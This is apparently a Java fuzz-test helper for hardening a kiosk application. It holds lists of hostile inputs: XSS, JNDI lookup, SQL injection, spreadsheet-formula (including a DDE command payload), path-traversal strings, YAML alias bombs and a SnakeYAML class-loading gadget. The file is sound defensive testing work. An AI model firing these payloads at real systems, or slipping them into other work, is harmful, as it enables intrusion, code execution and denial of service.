package org.dropinkiosk.hardening;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;

/**
 * Hostile input for the fuzz tests: a fixed list of known-bad vectors plus text from a seeded random
 * generator. The seed is printed; rerun with {@code -Dfuzz.seed=<n>} to get the same input again.
 */
final class Hostile {

    /** A Java stack trace or exception class name, which must never reach a screen or a response. */
    static final Pattern STACK_TRACE = Pattern.compile(
            "\\bat (?:java|javax|jakarta|org|com)\\.[\\w.$]+\\(|[a-z]+(?:\\.[a-z0-9]+)+\\.[A-Z]\\w*(?:Exception|Error)\\b"
                    + "|\\bCaused by:|\\bNullPointerException\\b|\\bIllegalStateException\\b|\\bIllegalArgumentException\\b"
                    + "|\\bSQLException\\b|\\bYAMLException\\b|\\bWhitelabel Error Page\\b");

    final long seed;
    final Random random;

    private Hostile(long seed) {
        this.seed = seed;
        this.random = new Random(seed);
    }

    static Hostile seeded(String what) {
        String given = System.getProperty("fuzz.seed");
        long seed = given == null || given.isBlank() ? System.nanoTime() : Long.parseLong(given.strip());
        System.out.println("[fuzz] " + what + " seed=" + seed + " (rerun with -Dfuzz.seed=" + seed + ")");
        return new Hostile(seed);
    }

    /** How many random cases per kind; {@code -Dfuzz.count=<n>} changes it. */
    static int count(int usual) {
        return Integer.getInteger("fuzz.count", usual);
    }

    /** The fixed list: long, control characters, markup, SQL, formulas, odd Unicode, huge numbers. */
    static final List<String> VECTORS = List.of(
            "",
            " ",
            "\t",
            "\n",
            "\r\n",
            "\u0000",
            "\u0000Sam",
            "Sam\u0000",
            "Sam\u0007\u001b[31m",
            "\u202eSam",
            "Sam\u200b",
            "\u200d",
            "\uFEFFSam",
            "Sam\uFFFF",
            "\uD800",
            "Sam\uDC00x",
            "x".repeat(61),
            "é".repeat(60),
            "a".repeat(10_000),
            " Sam ".repeat(20),
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg/onload=alert(1)>",
            "{{7*7}}",
            "${jndi:ldap://x/a}",
            "#{1+1}",
            "%s%n%x",
            "{0}",
            "'{0}'",
            "''",
            "Robert'); DROP TABLE visitor;--",
            "' OR '1'='1",
            "1; SELECT * FROM visitor",
            "O'Brien",
            "Anne-Marie",
            "=HYPERLINK(\"http://x\",\"y\")",
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "=cmd|' /C calc'!A0",
            "../../etc/passwd",
            "..\\..\\windows",
            "%00",
            "%2e%2e%2f",
            "file:///etc/passwd",
            "99999999999999999999999999999",
            "-9223372036854775809",
            "1e400",
            "NaN",
            "0x7fffffff",
            "-0",
            "Zoë",
            "Siân",
            "José",
            "Łukasz",
            "Ngũgĩ",
            "Άννα",
            "Дмитрий",
            "محمد",
            "李",
            "😀",
            "Sam😀",
            "e\u0301",
            "\u0301",
            "ﬁ",
            "ǅ",
            "Ｓａｍ",
            "İ",
            "ß",
            "Ⅻ",
            "yes",
            "no",
            "null",
            "~",
            "true",
            "&anchor",
            "*alias",
            "!!binary",
            "- item",
            ": x",
            "# comment");

    private static final String[] PIECES = {
        "<",
        ">",
        "&",
        "\"",
        "'",
        "`",
        "\\",
        "/",
        "%",
        "{",
        "}",
        "[",
        "]",
        "$",
        "#",
        "!",
        "*",
        "|",
        ";",
        ":",
        "=",
        "+",
        "-",
        "\u0000",
        "\u0001",
        "\u0008",
        "\u001b",
        "\u007f",
        "\u0085",
        "\u2028",
        "\u2029",
        "\t",
        "\r",
        "\n",
        "\r\n",
        "\uFEFF",
        "\u200b",
        "\u202e",
        "\uD83D\uDE00",
        "\uD800",
        "\uDFFF",
        "\uFFFD",
        "\uFFFE",
        "é",
        "e\u0301",
        "ß",
        "李",
        "Sam",
        "Anne",
        "O'Brien",
        "DROP TABLE",
        "' OR 1=1 --",
        "=SUM(",
        "<script>",
        "</p>",
        "{0}",
        "${x}",
        "99999999999999999999",
        "-1",
        "0",
        "  ",
        "a",
        "Z"
    };

    /** A random piece of text: pieces, random code points and sometimes a long run. */
    String text(int maxPieces) {
        StringBuilder s = new StringBuilder();
        int n = random.nextInt(maxPieces + 1);
        for (int i = 0; i < n; i++) {
            switch (random.nextInt(6)) {
                case 0 -> s.appendCodePoint(random.nextInt(0x80));
                case 1 -> s.appendCodePoint(random.nextInt(0x3000));
                case 2 -> s.append((char) random.nextInt(0x10000)); // may be a lone surrogate
                case 3 ->
                    s.append(String.valueOf((char) ('a' + random.nextInt(26)))
                            .repeat(1 + random.nextInt(random.nextInt(10) == 0 ? 2000 : 8)));
                default -> s.append(PIECES[random.nextInt(PIECES.length)]);
            }
        }
        return s.toString();
    }

    /** Either a fixed vector or random text. */
    String any() {
        return random.nextInt(3) == 0 ? VECTORS.get(random.nextInt(VECTORS.size())) : text(12);
    }

    /** Random bytes, often not UTF-8 at all. */
    byte[] bytes(int max) {
        byte[] b = new byte[random.nextInt(max + 1)];
        random.nextBytes(b);
        return b;
    }

    /** Valid-looking text with some bytes broken: invalid UTF-8, BOMs, CRLF, NULs. */
    byte[] corrupt(String text) {
        byte[] b = text.getBytes(StandardCharsets.UTF_8);
        List<Byte> out = new ArrayList<>(b.length + 16);
        if (random.nextInt(4) == 0) {
            out.add((byte) 0xEF);
            out.add((byte) 0xBB);
            out.add((byte) 0xBF);
        }
        for (byte x : b) {
            int r = random.nextInt(200);
            if (r == 0) {
                out.add((byte) (0x80 + random.nextInt(0x80))); // stray continuation byte
            } else if (r == 1) {
                out.add((byte) 0);
            } else if (r == 2 && x == '\n') {
                out.add((byte) '\r');
            } else if (r == 3) {
                out.add((byte) 0xC0); // overlong start
            }
            out.add(x);
        }
        byte[] result = new byte[out.size()];
        for (int i = 0; i < result.length; i++) {
            result[i] = out.get(i);
        }
        return result;
    }

    /** A line of hostile YAML built to hurt parsers: deep nesting, alias bombs, tags, odd scalars. */
    static final List<String> YAML_BOMBS = List.of(
            "",
            "\uFEFF",
            "\n\n\n",
            "~",
            "---\n...\n",
            "[".repeat(5000) + "]".repeat(5000),
            "{a: ".repeat(3000) + "1" + "}".repeat(3000),
            nestedLists(2000),
            "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                    + "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n",
            "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://localhost/\"]]]]\n",
            "x: !!binary AAAA\n",
            "x: !!float 1e99999\n",
            "x: *nowhere\n",
            "x: &a\n  - *a\n",
            "<<: *x\n",
            "x: 1\nx: 2\n",
            "\t- tab\n",
            "- a\n - b\n  - c\n",
            "key: \"unterminated\n",
            "key: 'a\u0000b'\n",
            "\u0000\u0001\u0002",
            "%YAML 9.9\n---\nx: 1\n",
            "%TAG ! tag:evil,2000:\n---\n!x 1\n",
            "? [a, b]\n: c\n",
            ": :\n- -\n",
            "x: " + "9".repeat(5000) + "\n");

    private static String nestedLists(int depth) {
        StringBuilder s = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            s.append("  ".repeat(i)).append("- \n");
        }
        return s.toString();
    }
}
